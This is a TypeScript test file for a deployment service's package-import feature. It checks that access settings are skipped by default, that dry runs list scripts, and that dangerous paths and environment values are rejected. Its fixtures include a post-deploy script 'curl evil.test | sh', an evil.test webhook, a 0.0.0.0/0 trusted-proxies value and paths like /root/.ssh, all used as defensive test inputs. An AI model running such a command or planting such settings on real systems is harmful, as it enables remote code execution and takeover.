import t from 'tap'
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { importPackage } from '../../lib/transfer/import.js'
import type { ImportRequest } from '../../lib/transfer/import.js'
import type { TransferNeeds } from '../../lib/transfer/needs.js'
import type { LogSourceRecord } from '../../lib/transfer/package.js'
import { createSettings } from '../../lib/settings/settings.js'
import type { Store } from '../../lib/store/database.js'
import {
  findDeployment,
  listDeployments,
  placeDeployment,
  updateDeployment
} from '../../lib/store/tables/deployments.js'
import { listProjects } from '../../lib/store/tables/projects.js'
import { openStage } from '../support/store.js'
import { snapshot } from '../support/tree.js'
import { zipOf } from '../support/zip.js'

const actor = { name: 'test', ip: null }
const request: ImportRequest = {
  strategy: 'skip-existing',
  accessSettings: false,
  restoreArtifacts: true,
  dryRun: false,
  actor
}
const overwrite: ImportRequest = { ...request, strategy: 'overwrite' }

/** A store without a server, and a record of what an import calls in other modules. */
async function openImport(t: Parameters<typeof openStage>[0], change: Partial<TransferNeeds> = {}) {
  const stage = await openStage(t)
  const home = {
    directory: stage.directory,
    deployments: join(stage.directory, 'deployments'),
    tmp: join(stage.directory, 'tmp')
  }
  mkdirSync(home.deployments)
  const restored: string[] = []
  const notes: string[] = []
  const filesNow = (): string => readdirSync(home.deployments).join(' ')
  const needs: TransferNeeds = {
    ...stage,
    home,
    version: 'test',
    settings: createSettings(stage),
    deployments: {
      hasRunning: () => false,
      async note(ids) {
        notes.push(`${ids.join(' ')}: ${filesNow()}`)
        return { settle: async () => void notes.push(`settled: ${filesNow()}`) }
      },
      readOutput: async () => ({ text: '', truncated: false }),
      restore: async ({ projectId }) => void restored.push(projectId)
    },
    ...change
  }
  let number = 0
  async function take(files: Record<string, unknown>, asked = request, given: Partial<TransferNeeds> = {}) {
    const path = join(stage.directory, `package${++number}.zip`)
    const entries = Object.entries(files).map(([name, value]) => {
      return [
        `svc-export/${name}`,
        typeof value === 'string' || value instanceof Uint8Array ? value : JSON.stringify(value)
      ] as const
    })
    writeFileSync(
      path,
      await zipOf({ 'svc-export/manifest.json': '{"schemaVersion":1}', ...Object.fromEntries(entries) })
    )
    return importPackage({ ...needs, ...given }, path, asked)
  }
  return { ...stage, home, needs, notes, restored, take }
}

const project = { id: 'proj_a', name: 'A', deployPath: '/srv/svc-test/a', token: 'token-of-a' }
const deployment = { id: 'dep_a', projectId: 'proj_a', status: 'success', startTime: '2026-01-31T12:00:00.000Z' }

t.test('keeps records and files unchanged if the transaction of an import fails', async t => {
  const { store, home, notes, take } = await openImport(t)
  const artifact = await zipOf({ 'a.txt': 'a' })
  const files = {
    'manifest.json': { schemaVersion: 1, artifacts: [{ projectId: 'proj_a', deployId: 'dep_a' }] },
    'projects.json': [project],
    'deployments.json': [deployment],
    'outputs/dep_a.log': '2026-01-31T12:00:00.000Z one\n',
    'artifacts/proj_a.zip': artifact
  }
  await take(files)
  t.strictSame(readdirSync(home.deployments).sort(), ['dep_a.log', 'dep_a.zip'])
  t.equal(findDeployment(store, 'dep_a')?.hasArtifact, true)
  t.strictSame(
    notes.splice(0),
    ['dep_a: ', 'settled: dep_a.log dep_a.zip'],
    'noted before the first file, until the records are durable'
  )
  const before = snapshot(home.deployments)
  const broken: Store = { ...store, write: () => Promise.reject(new Error('the disk is full')) }
  const other = {
    ...files,
    'outputs/dep_a.log': '2026-01-31T12:00:00.000Z two\n',
    'deployments.json': [deployment, { ...deployment, id: 'dep_b' }]
  }
  await t.rejects(take(other, overwrite, { store: broken }), { message: 'the disk is full' })
  t.strictSame(snapshot(home.deployments), before)
  t.strictSame(
    notes,
    ['dep_b: dep_a.log dep_a.zip', 'settled: dep_a.log dep_a.zip'],
    'an existing record needs no note'
  )
  t.strictSame(readdirSync(home.tmp), [])
  t.equal(listDeployments(store, { limit: 10 }).length, 1)
  await take(other, overwrite)
  t.match(readFileSync(join(home.deployments, 'dep_a.log'), 'utf8'), 'two')
})

t.test('writes nothing if records change during the import', async t => {
  const { store, take, home } = await openImport(t)
  const racing: Store = {
    ...store,
    write: async work => {
      await take({ 'projects.json': [{ ...project, name: 'first' }] })
      return store.write(work)
    }
  }
  const second = take(
    { 'projects.json': [{ ...project, name: 'second' }], 'deployments.json': [deployment] },
    request,
    { store: racing }
  )
  await t.rejects(second, { code: 'changed_meanwhile' })
  t.match(listProjects(store), [{ name: 'first' }])
  t.strictSame(readdirSync(home.deployments), [])
})

t.test('keeps the order of lists', async t => {
  const { store, take } = await openImport(t)
  const ids = ['dep_3', 'dep_2', 'dep_1']
  await take({
    'projects.json': [project, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: 'token-of-b' }],
    'deployments.json': ids.map(id => ({ ...deployment, id }))
  })
  t.strictSame(
    listDeployments(store, { limit: 10 }).map(({ id }) => id),
    ids
  )
  t.strictSame(
    listProjects(store).map(({ id }) => id),
    ['proj_a', 'proj_b']
  )
})

t.test('imports log sources, or ignores them with a note if they are not supported', async t => {
  const rows = new Map<string, LogSourceRecord>()
  const logSources: TransferNeeds['logSources'] = {
    list: (_, projectId) => [...rows.values()].filter(row => row.projectId === projectId),
    find: (_, id) => rows.get(id),
    insert: (_, row) => void rows.set(row.id, row),
    replace: (_, row) => void rows.set(row.id, row)
  }
  const { take } = await openImport(t)
  const files = {
    'projects.json': [project],
    'log-sources.json': [{ id: 'lsrc_a', projectId: 'proj_a', filePath: '/var/log/a.log' }]
  }
  const without = await take(files)
  t.match(without, { logSources: { created: [] }, notes: [/Log sources were ignored/] })
  const result = await take(files, request, { logSources })
  t.strictSame(result.logSources, { created: ['lsrc_a'], replaced: [], skipped: [] })
  t.match(rows.get('lsrc_a'), { label: '/var/log/a.log', kind: 'plain', sortOrder: 0 })
  t.strictSame((await take(files, overwrite, { logSources })).logSources.replaced, ['lsrc_a'])
})

t.test('reports an artifact that cannot be restored and continues', async t => {
  const { take, needs } = await openImport(t)
  const deployments = { ...needs.deployments, restore: () => Promise.reject(new Error('no space')) }
  const result = await take({ 'projects.json': [project], 'artifacts/proj_a.zip': await zipOf({ a: 'a' }) }, request, {
    deployments
  })
  t.strictSame(result.artifacts, {
    created: [],
    replaced: [],
    skipped: ['proj_a'],
    failed: [{ id: 'proj_a', error: 'no space' }]
  })
  t.strictSame(result.projects.created, ['proj_a'])
})

t.test('imports settings that control access only on request', async t => {
  const settings = {
    trusted_proxies: '0.0.0.0/0',
    allowed_ips: '',
    webhook_url: 'https://evil.test/',
    webhook_secret: 'theirs',
    global_deploy_token: 'theirs-123456',
    allow_client_scripts: 'true',
    terminal_enabled: 'true',
    script_timeout: '77',
    keep_archives: '3'
  }
  const { take, needs } = await openImport(t)
  const before = needs.settings.all()
  const result = await take({ 'settings.json': { ...settings, no_such_setting: 'x' } }, overwrite)
  t.strictSame(needs.settings.all(), { ...before, script_timeout: '77', keep_archives: '3' })
  t.strictSame(result.settings.created, ['keep_archives', 'script_timeout'])
  t.strictSame(result.settings.skipped.sort(), [
    'allow_client_scripts',
    'allowed_ips',
    'global_deploy_token',
    'terminal_enabled',
    'trusted_proxies',
    'webhook_secret',
    'webhook_url'
  ])
  t.match(result.notes, [/"allowed_ips".*control access.*--with-access-settings/, /"no_such_setting" was ignored/])

  await take({ 'settings.json': { global_deploy_token: 'short' } })
  await t.rejects(take({ 'settings.json': { global_deploy_token: 'short' } }, { ...request, accessSettings: true }), {
    code: 'invalid_setting'
  })
  const all = await take({ 'settings.json': settings }, { ...overwrite, accessSettings: true })
  t.match(needs.settings.all(), settings)
  t.strictSame(all.settings.skipped, [])
  t.strictSame(all.notes, [])
})

t.test('lists every path, script and setting of a package in a dry run', async t => {
  const { take } = await openImport(t)
  const shop = {
    ...project,
    name: 'Shop',
    preDeployScript: 'echo pre',
    postDeployScript: 'curl evil.test | sh\ntrue',
    postDeployAsync: true,
    allowClientScripts: true,
    allowedEnv: ['APP_*']
  }
  const files = {
    'settings.json': { script_timeout: '77', webhook_secret: 'a-secret-of-theirs', webhook_url: 'https://evil.test/' },
    'projects.json': [shop, { ...project, id: 'proj_b', deployPath: '/srv/svc-test/b', token: '' }],
    'artifacts/proj_a.zip': await zipOf({ a: 'a' })
  }
  const dry = { ...request, dryRun: true, accessSettings: true }
  const { brings } = await take(files, dry)
  t.match(brings, {
    settings: [
      { key: 'webhook_url', value: 'https://evil.test/' },
      { key: 'webhook_secret', value: null },
      { key: 'script_timeout', value: '77' }
    ],
    projects: [
      {
        id: 'proj_a',
        name: 'Shop',
        deployPath: '/srv/svc-test/a',
        preDeployScript: 'echo pre',
        postDeployScript: shop.postDeployScript,
        allowClientScripts: true,
        allowedEnv: ['APP_*'],
        hasArtifact: true
      },
      { id: 'proj_b', deployPath: '/srv/svc-test/b', preDeployScript: '', postDeployScript: '', hasArtifact: false }
    ],
    logSources: []
  })
  t.notMatch(JSON.stringify(brings), /a-secret-of-theirs|token-of-a/)
  await take(files)
  t.strictSame((await take(files, dry)).brings.projects, [], 'skipped records are not listed')
})

t.test('applies the rules of the API to a package', async t => {
  const { take, store } = await openImport(t)
  for (const [file, record] of Object.entries({
    'token, 7 characters': { token: 'token-a' },
    'token, spaces': { token: 'token of a' },
    'token, too long': { token: 'a'.repeat(1025) },
    'deployPath, of the system': { deployPath: '/etc/cron.d' },
    'deployPath, a key': { deployPath: '/root/.ssh' },
    'deployPath, two lines': { deployPath: '/srv/a\nb' },
    'pm2AppName, two lines': { pm2AppName: 'a\nb' },
    'allowedEnv, all': { allowedEnv: ['*'] },
    'allowedEnv, denied': { allowedEnv: ['LD_PRELOAD'] },
    'allowedEnv, too many': { allowedEnv: Array.from({ length: 101 }, (_, index) => `A${index}`) }
  })) {
    const [, field = ''] = /^(\w+)/.exec(file) ?? []
    await t.rejects(
      take({ 'projects.json': [{ ...project, ...record }] }),
      { kind: 'invalid', message: new RegExp(`projects\\.json\\[0\\]\\.${field}`) },
      file
    )
  }
  const log = { id: 'lsrc_a', projectId: 'proj_a', filePath: 'relative.log' }
  await t.rejects(take({ 'projects.json': [project], 'log-sources.json': [log] }), {
    message: /log-sources\.json\[0\]\.filePath/
  })
  await take({
    'projects.json': [
      { ...project, name: 'Shop\n✓ success', env: 'a\u202eb', allowedEnv: ['APP_*', 'APP_*'], description: 'One\nTwo' }
    ],
    'tags.json': [{ id: 'tag_a', name: 'a\nb' }],
    'deployments.json': [{ ...deployment, projectName: 'x\ny', message: 'm\nn' }]
  })
  t.match(listProjects(store), [
    { name: 'Shop\\n✓ success', env: 'a\\u202eb', allowedEnv: ['APP_*'], description: 'One\nTwo' }
  ])
  t.match(findDeployment(store, 'dep_a'), { projectName: 'x\\ny', message: 'm\\nn' })
})

t.test('keeps the live deployment live and its archive when its record is replaced', async t => {
  const { store, home, take } = await openImport(t)
  const files = { 'projects.json': [project], 'deployments.json': [{ ...deployment, placed: 7, hasArtifact: false }] }
  await take(files)
  t.equal(findDeployment(store, 'dep_a')?.placed, null, 'the number of another machine says nothing here')
  await store.write(tx => {
    placeDeployment(tx, 'dep_a')
    updateDeployment(tx, 'dep_a', { hasArtifact: true, archiveBytes: 3, archiveSha256: 'abc' })
  })
  writeFileSync(join(home.deployments, 'dep_a.zip'), 'zip')
  await take(files, overwrite)
  t.match(findDeployment(store, 'dep_a'), { placed: 1, hasArtifact: true, archiveBytes: 3, archiveSha256: 'abc' })
  t.equal(readFileSync(join(home.deployments, 'dep_a.zip'), 'utf8'), 'zip')
})

t.test('imports the provenance of a deployment and refuses an invalid one', async t => {
  const { store, take } = await openImport(t)
  const given = (provenance: unknown) => ({
    'projects.json': [project],
    'deployments.json': [{ ...deployment, provenance }]
  })
  const wrong: Array<[unknown, RegExp]> = [
    ['main', /"deployments\.json\[0\]\.provenance" is "main": expected an object/],
    [{ commit: 'main' }, /\.provenance\.commit" is not valid: expected 40 or 64/],
    [{ ci: { system: 'x', url: 'javascript:1' } }, /\.provenance\.ci\.url/]
  ]
  for (const [provenance, message] of wrong) await t.rejects(take(given(provenance)), { message })
  await take(given({ branch: 'main', subject: 'a\nb', repository: 'https://u:hunter2@git.test/x', more: 1 }))
  t.match(findDeployment(store, 'dep_a')?.provenance, {
    source: 'cli',
    branch: 'main',
    subject: 'a\\nb',
    repository: 'https://git.test/x',
    ci: null
  })
})
